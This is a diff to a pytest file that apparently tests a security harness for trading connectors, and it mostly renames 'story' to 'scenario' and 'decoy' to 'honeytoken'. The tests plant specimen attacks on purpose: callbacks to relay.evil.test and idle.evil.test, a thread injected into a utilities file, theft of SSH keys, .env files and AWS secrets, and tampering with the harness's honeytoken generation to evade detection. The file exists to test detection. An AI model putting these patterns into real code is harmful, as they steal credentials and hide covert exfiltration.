@@ -12,13 +12,13 @@ import pytest
 from rich.console import Console
 
 from checks.conformance import test_security as checks
-from checks.conformance.stories.market_data import list_markets
+from checks.conformance.scenarios.market_data import list_markets
 from demo.prepare import prepare
 from harness.checking import Failed
+from harness.checking.plan import calm
 from harness.commands.check import check_work_tree
 from harness.grading import Verdict
 from harness.paths import cache_dir
-from harness.plan import calm
 from tests.hostile.attack import attack
 from tests.hostile.leaking import leaked
 from tests.world import git
@@ -38,16 +38,16 @@ def finding(zoo: Zoo, bad: Defect, check: Callable[..., None]) -> Failed:
             with pytest.raises(Failed) as found:
                 specimen.check(check, pace)
         told = found.value.summary + "".join(each.model_dump_json() for each in found.value.evidence)
-        assert specimen.lab.canaries.redact(told) == told
+        assert specimen.rigs.canaries.redact(told) == told
     assert found.value.evidence
     return found.value
 
 
 @attack(
     "calls home only when its exchange is down for maintenance",
-    meets="every scenario counts: the finding names the host and the story",
+    meets="every scenario counts: the finding names the host and the scenario",
 )
-def test_a_call_home_in_one_story_only(zoo: Zoo) -> None:
+def test_a_call_home_in_one_scenario_only(zoo: Zoo) -> None:
     bad = spoilt(
         "calls-home-in-need",
         EXCHANGE,
@@ -66,16 +66,17 @@ def test_a_call_home_in_one_story_only(zoo: Zoo) -> None:
     )
     found = finding(zoo, bad, checks.test_only_declared_hosts)
     assert (
-        "tried to reach relay.evil.test, which is not declared (story: take exchange away)" in found.summary
+        "tried to reach relay.evil.test, which is not declared (scenario: take exchange away)"
+        in found.summary
     )
-    assert found.evidence[0].data["story"] == "take exchange away"
+    assert found.evidence[0].data["scenario"] == "take exchange away"
 
 
 @attack(
     "waits for a moment when no scenario is running, and looks a name up then",
     meets="a gateway that serves nobody listens between the scenarios",
 )
-def test_a_call_home_between_the_stories(zoo: Zoo) -> None:
+def test_a_call_home_between_the_scenarios(zoo: Zoo) -> None:
     watcher = """
 import os, socket, threading, time
 def _scenarios():
@@ -103,17 +104,17 @@ threading.Thread(target=_watch, daemon=True).start()
         rewritten(UTILS, lambda source: source + watcher),
     )
     with zoo.bad(bad) as specimen:
-        specimen.stories.tell(list_markets, PACE)
-        between = specimen.lab.between.record
+        specimen.scenarios.play(list_markets, PACE)
+        between = specimen.rigs.between.record
         assert between.wait_for(between.lookups, 30)
-        told = r"idle\.evil\.test, which is not declared \(story: between the stories\)"
+        told = r"idle\.evil\.test, which is not declared \(scenario: between the scenarios\)"
         with pytest.raises(Failed, match=told):
             specimen.check(checks.test_only_declared_hosts)
 
 
 @attack(
     "takes the keys it finds in its home and its environment, and sends them to its exchange",
-    meets="they are decoys, searched for in all that leaves: a blocker that names the file",
+    meets="they are honeytokens, searched for in all that leaves: a blocker that names the file",
 )
 @pytest.mark.parametrize("loot", ["~/.ssh/id_ed25519", "~/.env", "$AWS_SECRET_ACCESS_KEY"])
 def test_a_thief_of_files(zoo: Zoo, loot: str) -> None:
@@ -131,7 +132,7 @@ def test_a_thief_of_files(zoo: Zoo, loot: str) -> None:
         """,
     )
     found = finding(zoo, bad, checks.test_secrets_never_leave)
-    assert f"The file or variable decoy {loot} left the connector (header X-Trace" in found.summary
+    assert f"The file or variable honeytoken {loot} left the connector (header X-Trace" in found.summary
 
 
 @attack(
@@ -187,8 +188,8 @@ def keep(module, name):
         return value
     setattr(module, name, kept)
 if "--plan" in sys.orig_argv:
-    import harness.decoys, harness.venue.session
-    keep(harness.decoys, "_random"); keep(harness.venue.session, "_token")
+    import harness.scenarios.honeytokens, harness.venue.session
+    keep(harness.scenarios.honeytokens, "_random"); keep(harness.venue.session, "_token")
 """
 
 
